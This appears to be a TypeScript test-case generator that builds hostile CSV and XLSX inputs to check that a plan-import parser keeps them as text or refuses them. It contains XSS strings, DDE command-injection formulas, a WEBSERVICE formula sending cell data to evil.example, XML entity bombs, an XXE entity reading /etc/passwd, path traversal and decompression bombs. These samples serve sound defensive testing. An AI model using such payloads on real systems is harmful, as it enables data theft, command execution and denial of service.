  add({ id: 'columns/csv-100000-delimiters', category: 'thousands of columns', fileName: 'plan.csv', expect: 'parsed', bytes: () => utf8(`${plan}${';'.repeat(100_000)}x\n`) });
  add({ id: 'columns/csv-3m-delimiters', category: 'thousands of columns', fileName: 'plan.csv', expect: 'refused', message: /more than 3,000,000 cells/, bytes: () => utf8(`${plan}${';'.repeat(3_000_001)}x\n`) });
  add({ id: 'columns/csv-wide-every-line', category: 'thousands of columns', fileName: 'plan.csv', expect: 'refused', message: /more than 3,000,000 cells/, bytes: () => utf8(plan + `1.1. М;1.1.1. Д${';'.repeat(2000)}x\n`.repeat(2000)) });

  // Script and HTML in cells: kept as text.
  add({ id: 'script/csv-every-column', category: 'script and HTML in cells', fileName: 'plan.csv', expect: 'parsed', verbatim: SCRIPTS, bytes: () => csv(scriptRows()) });
  add({ id: 'script/xlsx-inline-strings', category: 'script and HTML in cells', fileName: 'plan.xlsx', expect: 'parsed', verbatim: SCRIPTS, bytes: () => planXlsx(scriptRows()) });
  add({
    id: 'script/xlsx-shared-strings',
    category: 'script and HTML in cells',
    fileName: 'plan.xlsx',
    expect: 'parsed',
    verbatim: SCRIPTS,
    bytes: () => {
      const rows = scriptRows();
      const strings: string[] = [];
      const shared = rows.map((cells) => cells.map((cell): Cell => (typeof cell === 'string' ? { raw: `<c r="$REF" t="s"><v>${strings.push(cell) - 1}</v></c>` } : cell)));
      return book([sheetXml(rowsXml(shared))], { sharedStrings: sharedStringsXml(strings), sheetNames: ['<script>alert("sheet")</script>'] });
    },
  });
  add({ id: 'script/cdata-in-xml', category: 'script and HTML in cells', fileName: 'plan.xlsx', expect: 'parsed', bytes: () => planXlsx(planWith('note', [{ raw: '<c r="$REF" t="inlineStr"><is><t><![CDATA[<script>alert(1)</script>]]></t></is></c>' }])) });
  add({ id: 'script/sheet-name', category: 'script and HTML in cells', fileName: 'plan.xlsx', expect: 'parsed', verbatim: ['<img src=x onerror=alert(1)>'], bytes: () => planXlsx(planRows().filter((row) => !String(row[0] ?? '').startsWith('Област')), { sheetNames: ['<img src=x onerror=alert(1)>'] }) });

  // Formula payloads: read as text (or as the cached result), never evaluated.
  add({ id: 'formula/csv-text', category: 'formula payloads', fileName: 'plan.csv', expect: 'parsed', verbatim: FORMULAS, bytes: () => csv(formulaRows()) });
  add({ id: 'formula/xlsx-strings', category: 'formula payloads', fileName: 'plan.xlsx', expect: 'parsed', verbatim: FORMULAS, bytes: () => planXlsx(formulaRows()) });
  add({
    id: 'formula/xlsx-formula-cells',
    category: 'formula payloads',
    fileName: 'plan.xlsx',
    expect: 'parsed',
    verbatim: ['cached text'],
    bytes: () =>
      planXlsx(
        planWith('target', [
          { raw: `<c r="$REF" t="str"><f>cmd|' /C calc'!A0</f><v>cached text</v></c>` },
          { raw: '<c r="$REF"><f>WEBSERVICE("http://evil.example/?"&amp;A1)</f></c>' },
          { raw: '<c r="$REF"><f>1/0</f><v>#DIV/0!</v></c>' },
          { raw: '<c r="$REF" t="e"><f>NA()</f><v>#N/A</v></c>' },
          { raw: '<c r="$REF"><f t="shared" si="0"/><v>5</v></c>' },
        ]),
      ),
  });
  add({ id: 'formula/dde-in-every-column', category: 'formula payloads', fileName: 'plan.csv', expect: 'parsed', verbatim: ["=cmd|' /C calc'!A0"], bytes: () => csv([...planRows(), ['1.1. М', "1.1.9. =cmd|' /C calc'!A0", "=cmd|' /C calc'!A0", "=cmd|' /C calc'!A0", "=cmd|' /C calc'!A0", "=cmd|' /C calc'!A0", "=cmd|' /C calc'!A0"]]) });

  // Absurd dates: warnings, the date left empty.
  const absurdText = ['00.00.0000', '01.01.0000', '31.02.2023', '29.02.2023', '01.13.2023', '1.1.99999', '9999-99-99', '-1', '1e308', 'NaN', 'Infinity', '0x7fffffff', '31.12.1899', 'Q5 2023', '13-то тримесечие 2023'];
  add({ id: 'dates/absurd-text-csv', category: 'absurd dates', fileName: 'plan.csv', expect: 'parsed', bytes: () => csv(planWith('start', absurdText)) });
  add({ id: 'dates/absurd-text-xlsx', category: 'absurd dates', fileName: 'plan.xlsx', expect: 'parsed', bytes: () => planXlsx(planWith('end', absurdText)) });
  const absurdNumbers = [0, -1, -693594, 99999, 2958466, 1e308, -1e308, 1e-308, 0.5];
  add({ id: 'dates/absurd-numbers', category: 'absurd dates', fileName: 'plan.xlsx', expect: 'parsed', bytes: () => planXlsx(planWith('start', absurdNumbers)) });
  add({
    id: 'dates/absurd-date-formatted',
    category: 'absurd dates',
    fileName: 'plan.xlsx',
    expect: 'parsed',
    bytes: () => planXlsx(planWith('start', [...absurdNumbers, 'NaN', 'INF'].map((v) => ({ raw: `<c r="$REF" s="1"><v>${v}</v></c>` }))), { styles: DATE_STYLES }),
  });
  add({ id: 'dates/date1904-workbook', category: 'absurd dates', fileName: 'plan.xlsx', expect: 'parsed', bytes: () => planXlsx(planWith('start', [{ raw: '<c r="$REF" s="1"><v>-5000</v></c>' }]), { styles: DATE_STYLES, workbookXml: workbookXml(['План']).replace('<sheets>', '<workbookPr date1904="1"/><sheets>') }) });

  // Bogus XML.
  const header = rowXml(1, PLAN_HEADER);
  const bogus: [string, () => Uint8Array, Expectation, RegExp?][] = [
    ['nested-100k-closed', () => book([sheetXml(header + '<a>'.repeat(100_000) + '</a>'.repeat(100_000))]), 'refused', /nests its XML elements more than 64 deep/],
    ['nested-300k-unclosed', () => book([sheetXml(header + '<a>'.repeat(300_000))]), 'refused', /more than 64 deep/],
    ['nested-1m-distinct-names', () => book([sheetXml(header + Array.from({ length: 1_000_000 }, (_, i) => `<t${i}>`).join(''))]), 'refused', /more than 64 deep/],
    ['nested-1m-compressible', () => book([sheetXml(header + '<a>'.repeat(1_000_000) + '</a>'.repeat(1_000_000))]), 'refused', /more than 64 deep|zip bomb/],
    ['nested-in-cell', () => book([sheetXml(header + `<row r="2"><c r="A2" t="inlineStr"><is>${'<r>'.repeat(10_000)}<t>x</t>${'</r>'.repeat(10_000)}</is></c></row>`)]), 'refused', /more than 64 deep/],
    ['nested-in-workbook', () => book([sheetXml(header)], { workbookXml: `<workbook>${'<x>'.repeat(100_000)}${'</x>'.repeat(100_000)}</workbook>` }), 'refused', /xl\/workbook\.xml nests/],
    ['nested-in-styles', () => book([sheetXml(header)], { styles: `<styleSheet>${'<x>'.repeat(100_000)}</styleSheet>` }), 'refused', /xl\/styles\.xml nests/],
    ['nested-in-rels', () => book([sheetXml(header)], { workbookRels: `<Relationships>${'<x>'.repeat(100_000)}</Relationships>` }), 'refused', /workbook\.xml\.rels nests/],
    ['nested-60-is-fine', () => book([sheetXml(header + '<a>'.repeat(60) + '</a>'.repeat(60))]), 'refused', /nothing could be read as an activity/],
    ['not-xml', () => book(['this is not xml at all <<<>>> &&&']), 'refused', /could not be read/],
    ['empty-sheet-part', () => book(['']), 'refused', /no header row/],
    ['binary-sheet-part', () => book([randomBytes(prng(7), 10_000)]), 'refused'],
    ['unclosed-root', () => book([sheetXml(header).replace('</worksheet>', '')]), 'either'],
    ['mismatched-tags', () => book([sheetXml(header + '<row r="2"><c r="A2"></row></c>')]), 'refused', /could not be read/],
    // r is optional (ECMA-376): a cell or row without it follows the one before. A header with no
    // activity under it is refused for that (an XML error would say so instead): never an empty plan.
    ['cell-without-ref', () => book([sheetXml(header + '<row r="2"><c t="inlineStr"><is><t>x</t></is></c></row>')]), 'refused', /nothing could be read as an activity/],
    ['row-without-number', () => book([sheetXml(header + `<row>${cellXml('A2', '1.1. М')}</row>`)]), 'parsed'],
    ['row-number-huge', () => book([sheetXml(header + rowXml(999_999_999_999, ['1.1. М', '1.1.1. Д']))]), 'parsed'],
    ['row-number-negative', () => book([sheetXml(header + rowXml(-5, ['1.1. М', '1.1.1. Д']))]), 'either'],
    ['rows-out-of-order', () => book([sheetXml(rowXml(9, ['1.1. М', '1.1.1. Д']) + header + rowXml(2, ['1.1. М', '1.1.2. Д']) + rowXml(2, ['1.1. М', '1.1.3. Д']))]), 'either'],
    ['cell-ref-a0', () => book([sheetXml(header + `<row r="2">${cellXml('A0', 'x')}</row>`)]), 'either'],
    ['attribute-1mb', () => book([sheetXml(header + `<row r="2" spans="${'9'.repeat(MB)}">${cellXml('A2', '1.1. М')}</row>`)]), 'either'],
    ['comment-10mb', () => book([sheetXml(header + `<!--${'<row>'.repeat(2 * MB)}-->`)]), 'either'],
    ['comment-with-markup', () => book([sheetXml(rowsXml(planRows()) + `<!--${randomText(prng(8), 100_000).replace(/-/g, '')}<a><b><c>-->`)]), 'parsed'],
    ['processing-instructions', () => book([sheetXml(header + '<?php system("id"); ?>'.repeat(1000))]), 'refused', /nothing could be read as an activity/],
    ['shared-string-out-of-range', () => book([sheetXml(header + `<row r="2">${cellXml('A2', '1.1. М')}<c r="B2" t="s"><v>99999</v></c></row>`)], { sharedStrings: sharedStringsXml(['a']) }), 'parsed'],
    ['shared-string-negative', () => book([sheetXml(header + `<row r="2">${cellXml('A2', '1.1. М')}<c r="B2" t="s"><v>-1</v></c></row>`)], { sharedStrings: sharedStringsXml(['a']) }), 'parsed'],
    ['shared-string-not-a-number', () => book([sheetXml(header + `<row r="2">${cellXml('A2', '1.1. М')}<c r="B2" t="s"><v>__proto__</v></c></row>`)], { sharedStrings: sharedStringsXml(['a']) }), 'parsed'],
    ['shared-strings-missing', () => book([sheetXml(header + `<row r="2">${cellXml('A2', '1.1. М')}<c r="B2" t="s"><v>0</v></c></row>`)]), 'parsed'],
    ['shared-strings-garbage', () => book([sheetXml(rowsXml(planRows()))], { sharedStrings: '<sst><si><t>unclosed' }), 'either'],
    ['billion-laughs-shared-strings', () => book([sheetXml(header + `<row r="2">${cellXml('A2', '1.1. М')}<c r="B2" t="s"><v>0</v></c></row>`)], { sharedStrings: `${DTD_LAUGHS}<sst><si><t>&lol9;</t></si></sst>` }), 'refused', /sharedStrings\.xml holds a DTD/],
    ['billion-laughs-sheet', () => book([`${DTD_LAUGHS}<worksheet><sheetData>${header}<row r="2">${cellXml('A2', '&lol9;').replace('&amp;', '&')}</row></sheetData></worksheet>`]), 'refused', /holds a DTD/],
    ['billion-laughs-workbook', () => book([sheetXml(header)], { workbookXml: `${DTD_LAUGHS}<workbook><sheets><sheet name="&lol9;" sheetId="1" r:id="rId1"/></sheets></workbook>` }), 'refused', /holds a DTD/],
    ['quadratic-blowup-entity', () => book([sheetXml(header)], { sharedStrings: `<!DOCTYPE s [<!ENTITY a "${'x'.repeat(100_000)}">]><sst><si><t>${'&a;'.repeat(10_000)}</t></si></sst>` }), 'refused', /holds a DTD/],
    ['external-entity-xxe', () => book([`<?xml version="1.0"?><!DOCTYPE w [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><worksheet><sheetData>${header}<row r="2"><c r="A2" t="inlineStr"><is><t>&xxe;</t></is></c></row></sheetData></worksheet>`]), 'refused', /holds a DTD/],
    ['undefined-entity', () => book([sheetXml(header + `<row r="2"><c r="A2" t="inlineStr"><is><t>&undefined;</t></is></c></row>`)]), 'refused', /could not be read/],
    ['numeric-entities', () => planXlsx(planWith('note', [{ raw: '<c r="$REF" t="inlineStr"><is><t>&#60;script&#62;&#x41;&#1044;</t></is></c>' }])), 'parsed'],
    ['huge-numeric-entity', () => planXlsx(planWith('note', [{ raw: '<c r="$REF" t="inlineStr"><is><t>&#99999999999;</t></is></c>' }])), 'refused', /could not be read/],
    ['workbook-without-sheets', () => book([sheetXml(rowsXml(planRows()))], { workbookXml: '<workbook/>' }), 'parsed'],
    ['workbook-garbage', () => book([sheetXml(rowsXml(planRows()))], { workbookXml: 'garbage' }), 'refused', /could not be read/],
    ['rels-point-nowhere', () => book([sheetXml(rowsXml(planRows()))], { workbookRels: '<Relationships><Relationship Id="rId1" Target="../../../../etc/passwd"/></Relationships>' }), 'parsed'],
    ['styles-garbage', () => book([sheetXml(rowsXml(planRows()))], { styles: '<styleSheet><cellXfs><xf numFmtId="abc"/></cellXfs></styleSheet>' }), 'either'],
    ['style-index-out-of-range', () => planXlsx(planWith('start', [{ raw: '<c r="$REF" s="99999"><v>45000</v></c>' }]), { styles: DATE_STYLES }), 'parsed'],
    ['cell-type-unknown', () => planXlsx(planWith('note', [{ raw: '<c r="$REF" t="zzz"><v>1</v></c>' }, { raw: '<c r="$REF" t="b"><v>1</v></c>' }, { raw: '<c r="$REF" t="n"><v>abc</v></c>' }])), 'parsed'],
  ];
  for (const [name, bytes, expect, message] of bogus) {
    add({ id: `xml/${name}`, category: 'bogus XML', fileName: 'plan.xlsx', expect, message, bytes });
  }

  // A small file that would take gigabytes, or hold the event loop, were the budget per sheet.
  add({
    id: 'budget/330-sheets-of-99999-empty-rows',
    category: 'workbook budget',
    fileName: 'plan.xlsx',
    expect: 'refused',
    message: /would unpack to 1[0-9][0-9] MB/,
    large: true,
    bytes: once(() => book(Array.from({ length: 330 }, () => sheetXml('<row/>'.repeat(99_999))))),
  });
  add({
    id: 'budget/150-sheets-of-99999-empty-rows',
    category: 'workbook budget',
    fileName: 'plan.xlsx',
    expect: 'refused',
    message: /would unpack to 86 MB/,
    large: true,
    bytes: once(() => book(Array.from({ length: 150 }, () => sheetXml('<row/>'.repeat(99_999))))),
  });
  add({
    id: 'budget/26-sheets-of-4000-rows',
    category: 'workbook budget',
    fileName: 'plan.xlsx',
    expect: 'refused',
    message: /the file has more than 100,000 rows .*sheet "Sheet26", row 1\)/,
    large: true,
    bytes: once(() => book(Array.from({ length: 26 }, () => sheetXml(rowsXml(Array.from({ length: 4000 }, (_, i) => [`1.1.${i}. Д`])))))),
  });
  add({
    id: 'budget/1-million-tiny-shared-strings',
    category: 'workbook budget',
    fileName: 'plan.xlsx',
    expect: 'refused',
    message: /shared strings has more than 1,000,000 entries/,
    large: true,
    bytes: once(() => planXlsx(planRows(), { sharedStrings: `<sst>${'<si><t>a</t></si>'.repeat(1_000_001)}</sst>` })),
  });
  add({
    id: 'budget/9-million-tiny-shared-strings',
    category: 'workbook budget',
    fileName: 'plan.xlsx',
    expect: 'refused',
    message: /would unpack to 1[0-9][0-9] MB/,
    large: true,
    bytes: once(() => planXlsx(planRows(), { sharedStrings: `<sst>${'<si><t>a</t></si>'.repeat(9_000_000)}</sst>` })),
  });
  add({
    id: 'budget/32000-char-string-in-21000-cells',
    category: 'workbook budget',
    fileName: 'plan.xlsx',
    expect: 'refused',
    message: /characters of text/,
    large: true,
    bytes: once(() => longStringWorkbook(21_000)),
  });

  // Many sheets, many merges.
  add({ id: 'sheets/500-sheets', category: '500 sheets, merges', fileName: 'plan.xlsx', expect: 'parsed', bytes: () => book(Array.from({ length: 500 }, () => sheetXml(rowsXml(planRows())))) });
  add({ id: 'sheets/500-empty-sheets', category: '500 sheets, merges', fileName: 'plan.xlsx', expect: 'refused', message: /no header row/, bytes: () => book(Array.from({ length: 500 }, () => sheetXml(''))) });
  add({ id: 'sheets/500-same-name', category: '500 sheets, merges', fileName: 'plan.xlsx', expect: 'parsed', bytes: () => book(Array.from({ length: 500 }, () => sheetXml(rowsXml(planRows()))), { sheetNames: Array(500).fill('План') }) });
  add({ id: 'sheets/200000-merges', category: '500 sheets, merges', fileName: 'plan.xlsx', expect: 'parsed', bytes: () => book([sheetXml(rowsXml(planRows()), `<mergeCells count="200000">${Array.from({ length: 200_000 }, (_, i) => `<mergeCell ref="A${i + 1}:G${i + 1}"/>`).join('')}</mergeCells>`)]) });
  add({ id: 'sheets/overlapping-merges', category: '500 sheets, merges', fileName: 'plan.xlsx', expect: 'parsed', bytes: () => book([sheetXml(rowsXml(planRows()), `<mergeCells>${Array.from({ length: 50_000 }, () => '<mergeCell ref="A1:XFD1048576"/>').join('')}</mergeCells>`)]) });
  add({
    id: 'sheets/exceljs-merges',
    category: '500 sheets, merges',
    fileName: 'plan.xlsx',
    expect: 'parsed',
    bytes: async () => {
      const workbook = new ExcelJS.Workbook();
      const sheet = workbook.addWorksheet('План');
      planRows().forEach((row) => sheet.addRow(row));
      for (let r = 10; r < 3000; r++) sheet.mergeCells(r, 1, r, 3);
      return new Uint8Array(await workbook.xlsx.writeBuffer());
    },
  });

  return files;
}

/** Cyrillic and Latin letters and spaces, at random: text that does not compress much. */
function randomText(random: () => number, length: number): string {
  const letters = 'абвгдежзийклмнопрстуфхцчшщъьюяABCDEFGHIJKLMNOPQRSTUVWXYZ ';
  let text = '';
  for (let i = 0; i < length; i++) text += letters[Math.floor(random() * letters.length)];
  return text;
}

function scriptRows(): Cell[][] {
  return [
    ['ПЛАН <script>alert("title")</script> 2023-2024'],
    PLAN_HEADER,
    [`Област 1: ${SCRIPTS[0]}`],
    ...SCRIPTS.map((text, i): Cell[] => [`1.1. ${SCRIPTS[1]}`, `1.1.${i + 1}. ${text}`, '01.03.2023', '30.06.2023', text, text, text]),
  ];
}

function formulaRows(): Cell[][] {
  return [...planRows().slice(0, 3), ...FORMULAS.map((text, i): Cell[] => ['1.1. Мярка', `1.1.${i + 1}. Дейност`, '01.03.2023', '30.06.2023', text, text, text])];
}
